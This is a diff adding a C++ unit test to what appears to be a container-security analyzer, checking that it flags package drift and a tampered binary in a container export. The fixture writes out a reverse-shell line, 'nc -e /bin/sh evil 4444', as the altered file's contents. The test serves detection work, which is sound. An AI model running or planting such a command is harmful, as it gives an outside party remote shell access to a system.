@@ -441,6 +441,56 @@ private Q_SLOTS:
         QCOMPARE(findPackage(inv, QStringLiteral("github.com/spf13/cobra"))->location, QStringLiteral("usr/local/bin/tool"));
     }
 
+    // A container (inspect output + its export) beside its image: the packages it installed,
+    // removed and changed (FS-15), and a package file it altered (FS-08), each with its proof.
+    void containerDriftAndAlteredFile()
+    {
+        const QByteArray original("#!/bin/sh\necho original\n");
+        const QByteArray md5sums = md5(original).toLatin1() + "  usr/bin/x\n";
+        const QByteArray imageStatus = statusParagraph("x", "1.0-1") + statusParagraph("old", "2") + statusParagraph("libc6", "2.36-9");
+        const QByteArray containerStatus = statusParagraph("x", "1.0-1") + statusParagraph("libc6", "2.36-9+deb12u4")
+            + statusParagraph("netcat-openbsd", "1.219-1");
+        const QByteArray layer = TarBuilder().file("etc/os-release", "ID=debian\nVERSION_ID=12\n").file("usr/bin/x", original, 0755)
+                                     .file("var/lib/dpkg/status", imageStatus).file("var/lib/dpkg/info/x.md5sums", md5sums).bytes();
+        ImageArchive archive;
+        archive.config = ImageArchive::configFor({layer});
+        archive.layers = {layer};
+        const QString imagePath = writeTemp(archive.bytes(), QStringLiteral("drift-image.tar"));
+        const QString imageId = QStringLiteral("sha256:") + QString::fromLatin1(QCryptographicHash::hash(archive.config, QCryptographicHash::Sha256).toHex());
+        const QByteArray id(64, 'c');
+        const QString inspectPath = writeTemp("[{\"Id\":\"" + id + "\",\"Name\":\"/drifted\",\"Image\":\"" + imageId.toLatin1()
+                                                  + "\",\"Config\":{\"Image\":\"test/image:1\"},\"State\":{\"Status\":\"exited\"}}]",
+                                              QStringLiteral("drift-inspect.json"));
+        const QString exportPath = writeTemp(TarBuilder().file("etc/os-release", "ID=debian\nVERSION_ID=12\n")
+                                                 .file("usr/bin/x", "#!/bin/sh\nnc -e /bin/sh evil 4444\n", 0755)
+                                                 .file("var/lib/dpkg/status", containerStatus).file("var/lib/dpkg/info/x.md5sums", md5sums).bytes(),
+                                             QStringLiteral("drift-export.tar"));
+        const Analysis a = Analyzer::run({imagePath, inspectPath, exportPath}, AnalyzeOptions{});
+        QCOMPARE(a.containers.size(), std::size_t(1));
+        const Finding *drift = nullptr;
+        const Finding *altered = nullptr;
+        for (const Finding &f : a.findings) {
+            if (f.rule == u"FS-15" && f.path == u"/var/lib/dpkg/status" && f.container == QString::fromLatin1(id)) {
+                drift = &f;
+            }
+            if (f.rule == u"FS-08" && f.path == u"/usr/bin/x" && f.container == QString::fromLatin1(id)) {
+                altered = &f;
+            }
+        }
+        QVERIFY(drift);
+        QCOMPARE(drift->evidence, QStringLiteral("changed libc6 2.36-9 -> 2.36-9+deb12u4; installed netcat-openbsd 1.219-1; removed old 2"));
+        QCOMPARE(drift->evidenceFile, exportPath);
+        QVERIFY(altered);
+        QVERIFY2(altered->evidence.contains(md5(original)), qPrintable(altered->evidence));
+        QVERIFY(altered->evidence.contains(md5("#!/bin/sh\nnc -e /bin/sh evil 4444\n")));
+        QVERIFY(altered->evidence.contains(QStringLiteral("var/lib/dpkg/info/x.md5sums")));
+        QCOMPARE(altered->severity, Severity::High);
+        // The image alone has no such findings.
+        for (const Finding &f : a.findings) {
+            QVERIFY(!(f.rule == u"FS-08" && f.image == imageId));
+        }
+    }
+
     void parsersTolerateGarbage()
     {
         DiagnosticSink diag;
